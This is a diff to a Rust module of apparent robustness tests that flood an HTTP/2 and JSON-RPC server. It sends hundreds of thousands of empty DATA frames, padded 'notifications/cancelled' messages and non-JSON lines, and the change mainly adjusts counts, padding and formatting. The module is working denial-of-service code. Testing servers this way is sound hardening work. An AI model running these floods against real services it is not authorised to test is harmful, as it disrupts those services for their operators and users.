@@ -1,6 +1,6 @@
 //! B: floods of frames and of small requests.
 
-use serde_json::json;
+use std::collections::BTreeMap;
 
 use crate::attack::{Attack, Target, on_server};
 use crate::frames::{self, RawHttp2, frame};
@@ -15,7 +15,7 @@ pub(crate) fn attacks() -> Vec<Attack> {
         "B" Default pings_of_http2_and_nothing_is_read,
         "B" Default settings_of_http2_and_nothing_is_read,
         "B" Default data_frames_of_no_length_on_one_stream,
-        "B" Default two_hundred_thousand_cancels_of_unknown_requests_over_lines,
+        "B" Default a_hundred_thousand_cancels_of_unknown_requests_over_lines,
         "B" Default cancels_of_unknown_requests_in_a_session,
         "B" Default answers_that_were_not_asked_for_over_lines,
         "B" Default a_hundred_thousand_lines_that_are_not_json_and_nothing_is_read,
@@ -61,42 +61,51 @@ async fn settings_of_http2_and_nothing_is_read(target: Target) -> Result<String,
 
 async fn data_frames_of_no_length_on_one_stream(target: Target) -> Result<String, String> {
     let mut raw = RawHttp2::connect(target.http).await.map_err(text)?;
-    let head = frame(frames::HEADERS, frames::END_HEADERS, 1, &frames::call("echo"));
+    let head = frame(
+        frames::HEADERS,
+        frames::END_HEADERS,
+        1,
+        &frames::call("echo"),
+    );
     let data = (0..500_000).map(|_| frame(frames::DATA, 0, 1, &[]));
     let last = frame(frames::DATA, frames::END_STREAM, 1, &[]);
-    Ok(raw.flood([head].into_iter().chain(data).chain([last])).await)
+    Ok(raw
+        .flood([head].into_iter().chain(data).chain([last]))
+        .await)
 }
 
-async fn two_hundred_thousand_cancels_of_unknown_requests_over_lines(
+async fn a_hundred_thousand_cancels_of_unknown_requests_over_lines(
     target: Target,
 ) -> Result<String, String> {
     let mut wire = LineWire::legacy(target.lines).await.map_err(text)?;
-    let flood = wire.flood((0..200_000).map(|id| cancel(id, 1000))).await;
+    let padding = "c".repeat(2600);
+    let flood = wire
+        .flood((0..100_000).map(|id| cancel(id, &padding)))
+        .await;
     Ok(flood.to_string())
 }
 
 async fn cancels_of_unknown_requests_in_a_session(target: Target) -> Result<String, String> {
-    let mut session = Session::open(target.http, rpc::LEGACY).await.map_err(text)?;
+    let mut session = Session::open(target.http, rpc::LEGACY)
+        .await
+        .map_err(text)?;
     let headers = session.headers();
-    let posts: Vec<String> = (0..10_000)
-        .map(|id| http1::post(&headers, &cancel(id, 20_000)))
+    let padding = "c".repeat(60_000);
+    let posts: Vec<String> = (0..5000)
+        .map(|id| http1::post(&headers, &cancel(id, &padding)))
         .collect();
-    let (mut sent, mut statuses) = (0, std::collections::BTreeMap::new());
-    for some in posts.chunks(100) {
-        session.http.write(some.concat()).await.map_err(text)?;
-        for _ in some {
-            let status = session.http.answer().await.map_err(text)?.status;
-            *statuses.entry(status).or_insert(0) += 1;
-            sent += 1;
-        }
+    let mut statuses = BTreeMap::new();
+    for post in posts {
+        session.http.write(post).await.map_err(text)?;
+        let status = session.http.answer().await.map_err(text)?.status;
+        *statuses.entry(status).or_insert(0) += 1;
     }
-    Ok(format!("{sent} cancels of 20 KB each: {statuses:?}"))
+    Ok(format!("cancels of 60 KB each, by status: {statuses:?}"))
 }
 
-fn cancel(number: usize, padding: usize) -> String {
-    let id = format!("{number}{}", "c".repeat(padding));
-    let params = json!({"requestId": id});
-    json!({"jsonrpc": "2.0", "method": "notifications/cancelled", "params": params}).to_string()
+fn cancel(number: usize, padding: &str) -> String {
+    let params = format!(r#"{{"requestId":"{number}{padding}"}}"#);
+    format!(r#"{{"jsonrpc":"2.0","method":"notifications/cancelled","params":{params}}}"#)
 }
 
 async fn answers_that_were_not_asked_for_over_lines(target: Target) -> Result<String, String> {
@@ -112,7 +121,9 @@ async fn a_hundred_thousand_lines_that_are_not_json_and_nothing_is_read(
     target: Target,
 ) -> Result<String, String> {
     let mut wire = LineWire::connect(target.lines).await.map_err(text)?;
-    let flood = wire.flood((0..100_000).map(|_| "not JSON at all ".repeat(60))).await;
+    let flood = wire
+        .flood((0..100_000).map(|_| "not JSON at all ".repeat(60)))
+        .await;
     let mut http = Http1::connect(target.http).await.map_err(text)?;
     let answer = http.post(&[], "{").await.map_err(text)?;
     Ok(format!("{flood}; over HTTP {}", answer.status))
